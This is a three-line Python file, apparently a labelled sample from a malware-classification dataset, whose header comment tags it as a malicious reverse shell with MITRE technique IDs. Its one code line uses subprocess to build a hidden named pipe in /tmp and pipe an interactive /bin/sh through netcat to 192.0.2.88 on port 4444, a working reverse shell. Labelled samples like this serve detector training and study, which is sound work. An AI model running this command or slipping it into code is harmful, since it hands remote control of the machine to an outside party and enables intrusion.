# label: malicious family=revshell techniques=T1059.004,T1095,T1564.001,T1571 lines=3
import subprocess
subprocess.Popen("rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc 192.0.2.88 4444 > /tmp/.f", shell=True)
